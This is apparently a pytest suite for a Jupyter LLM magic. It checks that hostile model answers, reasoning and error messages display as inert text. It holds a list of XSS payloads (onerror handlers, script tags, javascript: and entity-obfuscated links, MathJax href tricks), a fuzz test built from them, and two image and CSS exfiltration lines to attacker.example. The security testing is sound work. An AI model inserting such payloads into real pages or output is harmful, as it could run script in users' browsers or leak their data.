"""A hostile answer runs nothing: raw HTML shows as text, Markdown still renders.

The answer (and a server's error text, and the reasoning) is untrusted. Each case is checked
twice (see tests/harness/markup_check.py): the display's source holds no tag llm_magic did not
write, and a permissive Markdown renderer makes no script, frame, handler, image or unsafe link
of it. A real kernel and a real browser check the same in tests/render/test_kernel_display.py
and tests/browser/test_answer_html.py.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from llm_magic.answer import Answer
from llm_magic.loopback import Reply
from llm_magic.markup import escape_text, sanitize_markdown
from tests.harness.markup_check import live_in_bundle, render_markdown
from tests.harness.shell import final, run

PWN = 'window.__pwned=1'
#: answers an attacker would write (a prompt injection, a hostile relay, a quoted page)
HOSTILE = {
    "img onerror": f'<img src=x onerror="{PWN}">',
    "script": f"<script>{PWN}</script>",
    "iframe": f'<iframe src="javascript:{PWN}"></iframe>',
    "svg onload": f"<svg onload={PWN}>",
    "details ontoggle": f"<details open ontoggle={PWN}>x</details>",
    "comment then img": f"<!-- hi --><img src=x onerror={PWN}>",
    "html anchor": f'<a href="javascript:{PWN}">click</a>',
    "style exfil": "<style>*{background:url(https://attacker.example/x)}</style>",
    "javascript link": f"[click](javascript:{PWN})",
    "JavaScript link upper": f"[click](JAVASCRIPT:{PWN})",
    "link with space": f"[click]( javascript:{PWN})",
    "link on next line": f"[click](\njavascript:{PWN})",
    "entity link": f"[click](java&#115;cript:{PWN})",
    "tab entity link": f"[click](java&#x09;script:{PWN})",
    "angle link": f"[click](<javascript:{PWN}>)",
    "data link": "[click](data:text/html,<script>alert(1)</script>)",
    "reference definition": f"[click]\n\n[click]: javascript:{PWN}",
    "reference definition next line": f"[click]\n\n[click]:\n  javascript:{PWN}",
    "image exfil": "![chart](https://attacker.example/leak?q=secret)",
    "escaped lt": f"\\<img src=x onerror={PWN}>",
    "table cell split": f"| a | b |\n|---|---|\n| `x|<img src=x onerror={PWN}>` | y |",
    "lazy indented fence": f"Some text\n    ```\n    <img src=x onerror={PWN}>\n    ```",
    "fence leaving a list": f"- item\n  ```\n<img src=x onerror={PWN}>\n  ```",
    "deep list fence": f"1. a\n    - b\n        ```\n      <img src=x onerror={PWN}>\n        ```",
    "unclosed fence": f"```\n<b>x</b>\n\nthen <img src=x onerror={PWN}>",
    "tilde fence in backticks": f"```\n~~~\n```\n<img src=x onerror={PWN}>\n~~~",
    "backticks in info": f"```a`b\n<img src=x onerror={PWN}>\n```",
    "tabbed fence": f"\t```\n<img src=x onerror={PWN}>\n\t```",
    "blockquote fence": f"> ```\n> <img src=x onerror={PWN}>\n> ```",
    "html block then fence": f"<div>\n```\n<img src=x onerror={PWN}>\n```\n</div>",
    "mathjax href": "$\\href{javascript:alert(1)}{click}$",
    "mathjax style": "$$\\style{background:url(https://attacker.example)}{x}$$",
    "math with a tag": f"$a <img src=x onerror={PWN}> b$",
    "code span then tag": f"`a` <img src=x onerror={PWN}> `b`",
    "escaped backtick": f"\\`<img src=x onerror={PWN}>`",
    "carriage returns": f"text\r\r<img src=x onerror={PWN}>\r",
    "nul": f"a\x00<img src=x onerror={PWN}>",
}


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_nothing_live(answer):
    shown = sanitize_markdown(answer)
    assert live_in_bundle({"text/markdown": shown}) == [], shown
    assert live_in_bundle({"text/markdown": Answer(answer)._repr_markdown_()}) == []


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_plain_text_is_inert_in_markdown_and_html(answer):
    shown = escape_text(answer)
    assert live_in_bundle({"text/markdown": shown, "text/html": shown}) == [], shown
    assert "\n" not in shown  # a blank line would end the block it is written in


def test_raw_html_is_shown_as_text_not_dropped():
    rendered = render_markdown(sanitize_markdown(HOSTILE["img onerror"]))
    assert "&lt;img" in rendered and "onerror" in rendered  # the student sees what the model wrote


def test_markdown_still_renders():
    answer = ("# Title\n\n## 小节\n\n- one\n- two\n\n1. first\n2. second\n\n"
              "| a | b |\n|---|---|\n| `<div>` | **x** |\n\n"
              "```python\nif a < b and c > d:\n    print('<b>ok</b>')\n```\n\n"
              "Inline `List<int>` and maths $a < b$ and $$\\sum_i x_i$$ and "
              "[docs](https://docs.python.org) or [mail](mailto:t@example.com).\n")
    html = render_markdown(sanitize_markdown(answer))
    for piece in ("<h1>Title</h1>", "<h2>小节</h2>", "<li>one</li>", "<li>first</li>", "<table>",
                  "<code>&lt;div&gt;</code>", "<strong>x</strong>", "if a &lt; b and c &gt; d:",
                  "&lt;b&gt;ok&lt;/b&gt;",
                  "<code>List&lt;int&gt;</code>",
                  'href="https://docs.python.org"', 'href="mailto:t@example.com"', "a \\lt b", "\\sum_i x_i"):
        assert piece in html, (piece, html)
    assert 'class="language-python"' in html


def test_fences_inside_lists_stay_in_the_list():
    answer = "1. Install:\n   ```bash\n   pip install x\n   ```\n2. Then `run <it>`"
    html = render_markdown(sanitize_markdown(answer))
    assert html.count("<ol") == 1 and "pip install x" in html and "<code>run &lt;it&gt;</code>" in html


_PIECES = st.sampled_from([
    "<img src=x onerror=alert(1)>", "<script>", "`", "``", "```", "~~~", "    ", "  ", "\t", "- ", "1. ", "> ",
    "\n", "\n\n", "[a](", "javascript:alert(1)", ")", "]", "[", "]:", "![", "$", "$$", "\\", "\\`", "&#106;",
    "&", "|", "<", ">", "text", "中文", "<!--", "-->", "<details>", "\\(", "\\\\[", "\r",
])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_mix_of_markdown_and_html_comes_alive(answer):
    shown = sanitize_markdown(answer)
    assert live_in_bundle({"text/markdown": shown}) == [], (answer, shown)


# -- through %%llm: every format, the reasoning, the error lines, _llm, the columns --------------
HOSTILE_ANSWER = (f'## Hi\n\n<img src=x onerror="{PWN}"> <script>{PWN}</script>\n\n'
                  f"[click](javascript:{PWN}) ![leak](https://attacker.example/?q=1)\n")


@pytest.mark.parametrize("fmt", ["markdown", "text", "code", "json", "html"])
def test_every_format_shows_a_hostile_answer_inert(shell, fake_provider, fmt):
    server = fake_provider("deepseek")
    server.queue(Reply.answer(HOSTILE_ANSWER, reasoning=f"thinking <img src=x onerror={PWN}>"))
    captured = run(shell, f"%%llm deepseek -f {fmt}\nhi")
    assert captured.outputs
    for output in captured.outputs:
        assert live_in_bundle(output.data) == [], output.data
    if fmt == "html":
        shown = final(captured)["text/html"]
        assert shown.startswith('<details>') and '<iframe sandbox=""' in shown and "sandbox:" in shown


def test_displaying_llm_shows_the_answer_inert(shell, fake_provider):
    fake_provider("deepseek").queue(Reply.answer(HOSTILE_ANSWER))
    run(shell, "%%llm deepseek\nhi")
    data, _ = shell.display_formatter.format(shell.user_ns["_llm"])
    assert "text/markdown" in data and live_in_bundle(data) == []


def test_error_lines_in_the_display_are_inert(shell, fake_provider):
    from IPython.utils.capture import capture_output

    body = {"error": {"message": f"<img src=x onerror={PWN}> see [docs](javascript:{PWN})", "type": "bad"}}
    fake_provider("deepseek").queue(Reply.error(400, body))
    with capture_output() as captured:
        result = shell.run_cell("%%llm deepseek\nhi")
    assert "onerror" in str(result.error_in_exec)  # the message is there, in the plain-text traceback
    shown = [output.data for output in captured.outputs]
    for data in shown:
        assert live_in_bundle(data) == [], data


def test_side_by_side_columns_are_inert(shell, fake_provider):
    fake_provider("deepseek").queue(Reply.answer(HOSTILE_ANSWER))
    body = {"error": {"message": f"<img src=x onerror={PWN}>", "type": "bad"}}
    fake_provider("bailian").queue(Reply.error(400, body))
    from IPython.utils.capture import capture_output

    with capture_output() as captured:
        shell.run_cell("%%llm deepseek bailian\nhi")
    assert captured.outputs
    for output in captured.outputs:
        assert live_in_bundle(output.data) == [], output.data
